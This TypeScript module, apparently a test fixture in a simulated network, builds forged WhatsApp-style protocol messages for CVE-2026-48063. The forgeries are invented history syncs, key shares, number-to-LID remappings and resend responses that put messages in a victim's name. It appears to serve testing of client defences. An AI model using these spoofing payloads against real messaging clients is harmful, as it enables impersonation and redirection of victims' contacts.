// Words that only one's own phone may say, as a stranger would forge them: keys, history, mappings and answers that no
// client may take from anybody else (CVE-2026-48063). They are encrypted like any message.
import { randomBytes, randomInt } from "node:crypto";
import { deflateSync } from "node:zlib";
import type { World } from "../network/world.ts";
import { proto } from "../wire/proto.ts";
import { lidJid, type Person, phoneJid } from "./person.ts";

export const spoofedKinds = [
  "history_sync_notification",
  "app_state_sync_key_share",
  "lid_migration_mapping_sync",
  "peer_data_operation_request_response_message",
] as const;
export type SpoofedKind = (typeof spoofedKinds)[number];

/** `victim`: in whose name a message is invented, or whose number is to lead to the forger. */
export type Spoof = { kind: SpoofedKind; text: string; victim: Person };

const { Type } = proto.Message.ProtocolMessage;

export function spoofedMessage(world: World, forger: Person, spoof: Spoof): proto.IMessage {
  return { protocolMessage: contents[spoof.kind](world, forger, spoof) };
}

type Content = (world: World, forger: Person, spoof: Spoof) => proto.Message.IProtocolMessage;

const contents: Record<SpoofedKind, Content> = {
  history_sync_notification(world, _forger, { text, victim }) {
    const invented = { id: phoneJid(victim), messages: [{ message: inventedMessage(world, victim, text) }] };
    const history = proto.HistorySync.encode({
      syncType: proto.HistorySync.HistorySyncType.RECENT,
      conversations: [invented],
      chunkOrder: 1,
      progress: 100,
      pushnames: [{ id: phoneJid(victim), pushname: text }],
    }).finish();
    const historySyncNotification = {
      syncType: proto.Message.HistorySyncType.RECENT,
      chunkOrder: 1,
      progress: 100,
      initialHistBootstrapInlinePayload: deflateSync(history),
    };
    return { type: Type.HISTORY_SYNC_NOTIFICATION, historySyncNotification };
  },
  app_state_sync_key_share(world) {
    const fingerprint = { rawId: randomInt(1, 2 ** 31), currentIndex: 0, deviceIndexes: [0] };
    const keyData = { keyData: randomBytes(32), fingerprint, timestamp: Number(world.nowSeconds()) };
    const keys = [{ keyId: { keyId: Buffer.concat([Buffer.of(0, 0), randomBytes(4)]) }, keyData }];
    return { type: Type.APP_STATE_SYNC_KEY_SHARE, appStateSyncKeyShare: { keys } };
  },
  lid_migration_mapping_sync(world, forger, { victim }) {
    const lid = Number(lidJid(forger).split("@")[0]);
    const encodedMappingPayload = proto.LIDMigrationMappingSyncPayload.encode({
      pnToLidMappings: [{ pn: Number(victim.phone), assignedLid: lid, latestLid: lid }],
      chatDbMigrationTimestamp: Number(world.nowSeconds()),
    }).finish();
    return { type: Type.LID_MIGRATION_MAPPING_SYNC, lidMigrationMappingSyncMessage: { encodedMappingPayload } };
  },
  peer_data_operation_request_response_message(world, _forger, { text, victim }) {
    const invented = proto.WebMessageInfo.fromObject(inventedMessage(world, victim, text));
    const placeholderMessageResendResponse = { webMessageInfoBytes: proto.WebMessageInfo.encode(invented).finish() };
    const peerDataOperationRequestResponseMessage = {
      peerDataOperationRequestType: proto.Message.PeerDataOperationRequestType.PLACEHOLDER_MESSAGE_RESEND,
      stanzaId: world.makeId(),
      peerDataOperationResult: [{ placeholderMessageResendResponse }],
    };
    return { type: Type.PEER_DATA_OPERATION_REQUEST_RESPONSE_MESSAGE, peerDataOperationRequestResponseMessage };
  },
};

function inventedMessage(world: World, victim: Person, text: string): proto.IWebMessageInfo {
  return {
    key: { remoteJid: phoneJid(victim), fromMe: false, id: world.makeId() },
    message: { conversation: text },
    messageTimestamp: Number(world.nowSeconds()),
    pushName: victim.name,
  };
}
